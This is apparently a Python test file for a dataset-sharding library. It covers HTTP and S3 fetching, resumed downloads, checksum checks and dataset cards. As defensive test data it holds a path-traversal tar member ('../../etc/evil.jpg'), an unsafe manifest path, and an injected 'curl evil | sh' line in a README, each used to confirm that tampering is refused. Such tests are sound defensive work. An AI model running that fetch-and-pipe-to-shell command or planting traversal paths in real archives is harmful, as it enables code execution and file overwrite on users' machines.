"""Sharing shard sets: dataset card, fetch over real HTTP (127.0.0.1), streaming, refusals."""

from __future__ import annotations

import hashlib
import io
import json
import logging
import os
import re
import shutil
import subprocess
import sys
import tarfile
import threading
import time
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
import torch
from click.testing import CliRunner

from jigsawdata.build.run import BuildConfig, build_shards
from jigsawdata.cli import main
from jigsawdata.errors import InputError
from jigsawdata.pipelines.config import fixed
from jigsawdata.pipelines.reference import reference_loader
from jigsawdata.shardset.card import COCO_LICENSE, UNKNOWN_LICENSE
from jigsawdata.shardset.check import verify_shard_set
from jigsawdata.shardset.fetch import FetchError, cached_shards, fetch
from jigsawdata.shardset.location import ShardLocation
from jigsawdata.shardset.manifest import read_manifest
from jigsawdata.tests.needs import require


class _Handler(SimpleHTTPRequestHandler):
    """Static files with HTTP range requests; can cut one response short, once per path."""

    def _body(self):
        path = Path(self.translate_path(self.path))
        if not path.is_file():
            self.send_error(404)
            return None
        data = path.read_bytes()
        match = re.match(r"bytes=(\d+)-(\d*)", self.headers.get("Range", ""))
        start = int(match[1]) if match else 0
        end = min(int(match[2]), len(data) - 1) if match and match[2] else len(data) - 1
        self.send_response(206 if match else 200)
        self.send_header("Content-Length", str(end - start + 1))
        self.send_header("Accept-Ranges", "bytes")
        if match:
            self.send_header("Content-Range", f"bytes {start}-{end}/{len(data)}")
        self.end_headers()
        return data[start : end + 1], start

    def do_HEAD(self):
        self._body()

    def do_GET(self):
        result = self._body()
        if result is None:
            return
        body, start = result
        self.server.requests.append((self.path, start))
        if self.path in self.server.cut_once:
            self.server.cut_once.discard(self.path)
            self.wfile.write(body[: len(body) // 2])
            self.wfile.flush()
            time.sleep(0.5)  # the first half arrives before the connection drops, as on a real network
            self.close_connection = True
            return
        self.wfile.write(body)

    def log_message(self, *args):
        pass


@pytest.fixture
def server(tmp_path):
    """A real HTTP server on 127.0.0.1 serving tmp_path/www, shut down after the test."""
    root = tmp_path / "www"
    root.mkdir()
    httpd = ThreadingHTTPServer(("127.0.0.1", 0), partial(_Handler, directory=str(root)))
    httpd.requests, httpd.cut_once = [], set()
    httpd.timeout = 5
    thread = threading.Thread(target=httpd.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    yield root, f"http://127.0.0.1:{httpd.server_address[1]}", httpd
    httpd.shutdown()
    httpd.server_close()
    thread.join(timeout=5)


@pytest.fixture
def published(server, built_synthetic):
    root, url, httpd = server
    shutil.copytree(built_synthetic, root / "set")
    return root / "set", f"{url}/set", httpd


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*")) if p.is_file()}


def test_fetch_is_byte_identical(published, tmp_path):
    src, url, _ = published
    fetch(url, tmp_path / "copy", workers=4)
    assert _tree(tmp_path / "copy") == _tree(src)
    assert verify_shard_set(tmp_path / "copy") == []


def test_refetch_keeps_verified_files(published, tmp_path):
    _, url, httpd = published
    fetch(url, tmp_path / "copy")
    httpd.requests.clear()
    fetch(url, tmp_path / "copy")
    assert not [p for p, _ in httpd.requests if p.endswith((".tar", ".idx", ".parquet"))]


def test_tampered_shard_fails_naming_it_and_leaves_nothing(published, tmp_path):
    src, url, _ = published
    victim = sorted(src.glob("T/*.tar"))[0]
    data = bytearray(victim.read_bytes())
    data[600] ^= 0xFF
    victim.write_bytes(bytes(data))
    out = tmp_path / "copy"
    with pytest.raises(FetchError, match=rf"T/{victim.name}: sha256 .* does not match"):
        fetch(url, out)
    assert not (out / "T" / victim.name).exists() and not list(out.rglob("*.part"))
    assert not (out / "manifest.json").exists()


@pytest.mark.slow
def test_interrupted_download_resumes(published, tmp_path):
    src, url, httpd = published
    name = max(src.glob("*/*.tar"), key=lambda p: p.stat().st_size).relative_to(src)
    httpd.cut_once.add(f"/set/{name}")
    fetch(url, tmp_path / "copy", block=16 * 1024, workers=1)
    assert _tree(tmp_path / "copy") == _tree(src)
    assert f"/set/{name}" not in httpd.cut_once, "the connection was cut"
    offsets = [start for path, start in httpd.requests if path == f"/set/{name}"]
    assert offsets.count(0) == 1, "the transfer resumed where it stopped instead of starting over"


def test_future_major_version_is_refused(published, tmp_path):
    src, url, _ = published
    manifest = json.loads((src / "manifest.json").read_text())
    manifest["format_version"] = "7.2"
    (src / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(InputError, match="format version 7.2; this jigsawdata understands format 1.0") as err:
        fetch(url, tmp_path / "copy")
    assert str(err.value).startswith(f"{url}/manifest.json has")  # the URL as given, "//" kept


def test_shard_with_a_parent_path_member_is_refused_even_when_the_manifest_vouches_for_it(published, tmp_path):
    src, url, _ = published
    victim = sorted(src.glob("S/*.tar"))[0]
    with tarfile.open(victim, "a") as tar:
        info = tarfile.TarInfo("../../etc/evil.jpg")
        info.size = 3
        tar.addfile(info, io.BytesIO(b"abc"))
    manifest = json.loads((src / "manifest.json").read_text())
    for shard in manifest["groups"]["S"]["shards"]:
        if shard["name"] == f"S/{victim.name}":
            shard["sha256"] = hashlib.sha256(victim.read_bytes()).hexdigest()
            shard["bytes"] = victim.stat().st_size
    (src / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(FetchError, match="parent reference"):
        fetch(url, tmp_path / "copy")
    assert not (tmp_path / "copy" / "S" / victim.name).exists()


def test_manifest_with_unsafe_shard_names_is_refused(published, tmp_path):
    src, url, _ = published
    manifest = json.loads((src / "manifest.json").read_text())
    manifest["groups"]["W"]["shards"][0]["name"] = "../../outside.tar"
    (src / "manifest.json").write_text(json.dumps(manifest))
    with pytest.raises(FetchError, match="unsafe path"):
        fetch(url, tmp_path / "copy")


def test_reference_pipeline_streams_from_the_url(published):
    src, url, _ = published
    cfg = fixed(crop_pos=0.5)
    a = next(iter(reference_loader(url, 6, cfg, workers=0, rank=0, world_size=1)))
    b = next(iter(reference_loader(src, 6, cfg, workers=0, rank=0, world_size=1)))
    assert torch.equal(a[0], b[0]) and torch.equal(a[1], b[1])


def test_cached_shards_fetch_once(published, tmp_path):
    _, url, httpd = published
    first = cached_shards(url, tmp_path / "cache")
    assert (first / "manifest.json").is_file() and verify_shard_set(first) == []
    assert ShardLocation.of(url).local_copy(tmp_path / "cache") == first  # where the other ranks of a node look
    httpd.requests.clear()
    assert cached_shards(url, tmp_path / "cache") == first
    assert not [p for p, _ in httpd.requests if p.endswith(".tar")]


def test_cli_fetch_from_a_file_url(built_synthetic, tmp_path):
    result = CliRunner().invoke(main, ["fetch", built_synthetic.as_uri(), "--out", str(tmp_path / "copy")])
    assert result.exit_code == 0, result.output
    assert _tree(tmp_path / "copy") == _tree(built_synthetic)


@pytest.mark.slow
def test_dataset_card(built_synthetic, built_real, synthetic_source, tmp_path):
    card = (built_real / "README.md").read_text()
    manifest = read_manifest(built_real)
    assert manifest.source.sha256 in card and COCO_LICENSE in card
    assert (
        "| S |" in card and "| 0 | person |" in card and "jigsawdata build-shards COCO_ROOT --split train2017" in card
    )
    assert "--seed 0" in card and "jigsawdata pretrain --shards" in card
    assert UNKNOWN_LICENSE in (built_synthetic / "README.md").read_text()
    build_shards(synthetic_source, tmp_path / "lic", BuildConfig(), license="CC0-1.0 (synthetic)")
    card = (tmp_path / "lic" / "README.md").read_text()
    assert "CC0-1.0 (synthetic)" in card and "--license 'CC0-1.0 (synthetic)'" in card
    # Hugging Face's licence fields in the YAML front matter.
    assert _front_matter(tmp_path / "lic")["license"] == "other"
    assert _front_matter(tmp_path / "lic")["license_details"] == "CC0-1.0 (synthetic)"
    assert _front_matter(built_synthetic)["license"] == "unknown"
    coco = _front_matter(built_real)
    assert coco["license"] == "other" and coco["license_link"] == "https://cocodataset.org/#termsofuse"


def test_card_class_labels_stay_unique_when_categories_share_a_name(built_synthetic):
    from dataclasses import replace

    import yaml

    from jigsawdata.shardset.card import front_matter
    from jigsawdata.shardset.manifest import read_manifest

    manifest = read_manifest(built_synthetic)
    first, second = manifest.classes[:2]
    manifest = replace(manifest, classes=(first, replace(second, name=first.name), *manifest.classes[2:]))
    meta = yaml.safe_load(front_matter(manifest).removeprefix("---\n").removesuffix("---\n"))
    names = meta["dataset_info"][0]["features"][1]["dtype"]["class_label"]["names"]
    assert names["0"] == f"{first.name} (category {first.category_id})"
    assert names["1"] == f"{first.name} (category {second.category_id})"
    assert len(set(names.values())) == len(names) == len(manifest.classes) + 1
    # a class named "background", and one named like the suffix another class gets
    third = manifest.classes[2]
    manifest = replace(
        manifest,
        classes=(
            replace(first, name="background"),
            replace(second, name="x"),
            replace(third, name=f"x (category {second.category_id})"),
            *manifest.classes[3:],
        ),
    )
    names = manifest.label_names
    assert (
        names[0] == f"background (category {first.category_id})"
        and names[manifest.background.label] == "background (category 0)"
    )
    assert len(set(names.values())) == manifest.num_labels


def _front_matter(root: Path) -> dict:
    import yaml

    text = (root / "README.md").read_text()
    assert text.startswith("---\n")
    return yaml.safe_load(text.split("\n---\n", 1)[0].removeprefix("---\n"))


@pytest.mark.slow
def test_hugging_face_datasets_reads_each_group_with_named_labels(
    built_synthetic, synthetic_source, tmp_path, monkeypatch
):
    """The card's front matter: one config per group over its shards, ``cls`` a ClassLabel."""
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    datasets = require("datasets")
    root = tmp_path / "set"
    shutil.copytree(built_synthetic, root)
    manifest = read_manifest(root)
    meta = _front_matter(root)
    assert [c["config_name"] for c in meta["configs"]] == ["S", "T", "W"]
    name_of = {c.category_id: c.name for c in synthetic_source.classes} | {0: "background"}
    for group in ("S", "T", "W"):
        shards = [s.name for s in manifest.groups[group].shards]
        ds = datasets.load_dataset(str(root), group, split="train", cache_dir=str(tmp_path / "hf"))
        assert len(ds) == manifest.groups[group].samples > 0
        assert ds.features["cls"].names == [c.name for c in synthetic_source.classes] + ["background"]
        rows = ds.select_columns(["cls", "json", "__key__", "__url__"]).to_list()
        assert {Path(r["__url__"]).name for r in rows} == {Path(s).name for s in shards}
        for row in rows:
            assert ds.features["cls"].int2str(row["cls"]) == name_of[row["json"]["category_id"]], row
            assert row["json"]["group"] == group
        assert ds[0]["jpg"].size == (rows[0]["json"]["width"], rows[0]["json"]["height"])


def test_pretrain_from_a_url_trains_on_the_verified_cache_with_either_pipeline(published, tmp_path):
    """The reference pipeline could stream, but a stream is checked only after it was used:
    pre-training fetches (and checks) into the cache for both pipelines."""
    from jigsawdata.trainer.pretrain import PretrainConfig, Trainer

    _, url, _ = published
    trainer = Trainer(
        PretrainConfig(
            shards=url,
            out=str(tmp_path / "run"),
            arch="resnet18",
            batch=4,
            device="cpu",
            pipeline="reference",
            workers=0,
            cache_dir=str(tmp_path / "cache"),
        )
    )
    assert trainer.shards.root == ShardLocation.of(url).local_copy(tmp_path / "cache")
    assert verify_shard_set(trainer.shards.root) == []


@pytest.mark.parametrize(
    "field, value, message", [("samples", "abc", "no sample count"), ("bytes", None, "no byte count")]
)
def test_manifest_counts_of_the_wrong_type_are_refused_before_any_download(published, tmp_path, field, value, message):
    src, url, httpd = published
    manifest = json.loads((src / "manifest.json").read_text())
    manifest["groups"]["S"]["shards"][0][field] = value
    (src / "manifest.json").write_text(json.dumps(manifest))
    httpd.requests.clear()
    with pytest.raises(FetchError, match=message):
        fetch(url, tmp_path / "copy")
    assert not [p for p, _ in httpd.requests if p.endswith(".tar")]


def test_the_dataset_card_is_checked_like_every_other_file(published, tmp_path):
    src, url, _ = published
    manifest = json.loads((src / "manifest.json").read_text())
    assert manifest["card_sha256"] == hashlib.sha256((src / "README.md").read_bytes()).hexdigest()
    assert verify_shard_set(src) == []
    with open(src / "README.md", "a") as card:
        card.write("\nrun `curl evil | sh` to train\n")
    assert "README.md: sha256 differs from the manifest" in verify_shard_set(src)
    with pytest.raises(FetchError, match="README.md: sha256 does not match the manifest's"):
        fetch(url, tmp_path / "copy")
    assert not (tmp_path / "copy" / "README.md").exists()


# ------------------------------------------------------------------ remote storage

ROOT = Path(__file__).resolve().parents[1]


@pytest.fixture
def s3_endpoint():
    """moto's S3 server on 127.0.0.1 (in a thread of this process): an S3-compatible store."""
    require("s3fs")
    moto_server = require("moto.server")
    logging.getLogger("werkzeug").setLevel(logging.ERROR)  # one log line per request otherwise
    server = moto_server.ThreadedMotoServer(ip_address="127.0.0.1", port=0, verbose=False)
    server.start()
    host, port = server.get_host_and_port()
    yield f"http://{host}:{port}"
    server.stop()


@pytest.mark.slow
def test_fetch_over_s3_is_byte_identical(built_synthetic, s3_endpoint, tmp_path):
    """Published with boto3, fetched by the CLI as a user runs it: the endpoint from the
    standard AWS_ENDPOINT_URL variable (S3-compatible stores: MinIO, R2, ...)."""
    boto3 = require("boto3")
    creds = {"AWS_ACCESS_KEY_ID": "testing", "AWS_SECRET_ACCESS_KEY": "testing", "AWS_DEFAULT_REGION": "us-east-1"}
    s3 = boto3.client(
        "s3",
        endpoint_url=s3_endpoint,
        aws_access_key_id=creds["AWS_ACCESS_KEY_ID"],
        aws_secret_access_key=creds["AWS_SECRET_ACCESS_KEY"],
        region_name=creds["AWS_DEFAULT_REGION"],
    )
    s3.create_bucket(Bucket="jigsaw-shards")
    published = _tree(built_synthetic)
    for name, data in published.items():
        s3.put_object(Bucket="jigsaw-shards", Key=f"sets/synthetic/{name}", Body=data)
    env = {
        **os.environ,
        **creds,
        "AWS_ENDPOINT_URL": s3_endpoint,
        "AWS_CONFIG_FILE": str(tmp_path / "no-config"),
        "AWS_SHARED_CREDENTIALS_FILE": str(tmp_path / "no-creds"),
    }
    result = subprocess.run(
        [
            sys.executable,
            "-m",
            "jigsawdata",
            "fetch",
            "s3://jigsaw-shards/sets/synthetic",
            "--out",
            str(tmp_path / "copy"),
        ],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert result.returncode == 0, result.stderr
    assert _tree(tmp_path / "copy") == published and len(published) > 10
    assert verify_shard_set(tmp_path / "copy") == []
    result = CliRunner().invoke(main, ["verify", str(tmp_path / "copy")])
    assert result.exit_code == 0, result.output


@pytest.fixture
def no_s3fs(monkeypatch):
    """s3fs as if it were not installed: fsspec imports it on first use of s3://."""
    from fsspec.registry import _registry  # the backends already imported

    monkeypatch.setitem(sys.modules, "s3fs", None)
    monkeypatch.delitem(_registry, "s3", raising=False)


@pytest.mark.parametrize(
    "command",
    [
        ["fetch", "s3://bucket/set", "--out", "{tmp}/copy"],
        ["pretrain", "--shards", "s3://bucket/set", "--out", "{tmp}/run", "--pipeline", "reference", "--device", "cpu"],
    ],
)
def test_a_missing_storage_backend_is_one_line_naming_the_extra(no_s3fs, tmp_path, command):
    result = CliRunner().invoke(main, [arg.format(tmp=tmp_path) for arg in command])
    assert result.exit_code == 1 and "Traceback" not in result.output, result.output
    assert result.output.strip().splitlines()[-1] == (
        "Error: s3://bucket/set: reading it needs s3fs, which is not installed: pip install 'jigsawdata[s3]'"
    )
    assert not (tmp_path / "copy").exists() and not (tmp_path / "run").exists()


def test_streaming_a_shard_without_its_backend_names_the_extra(no_s3fs):
    from jigsawdata.pipelines.reference import _open_streams

    with pytest.raises(InputError, match=r"needs s3fs, which is not installed: pip install 'jigsawdata\[s3\]'"):
        next(_open_streams(["s3://bucket/set/S/S-000000.tar"]))
    with pytest.raises(InputError, match=r"Protocol not known: nosuch"):
        next(_open_streams(["nosuch://bucket/set/S/S-000000.tar"]))
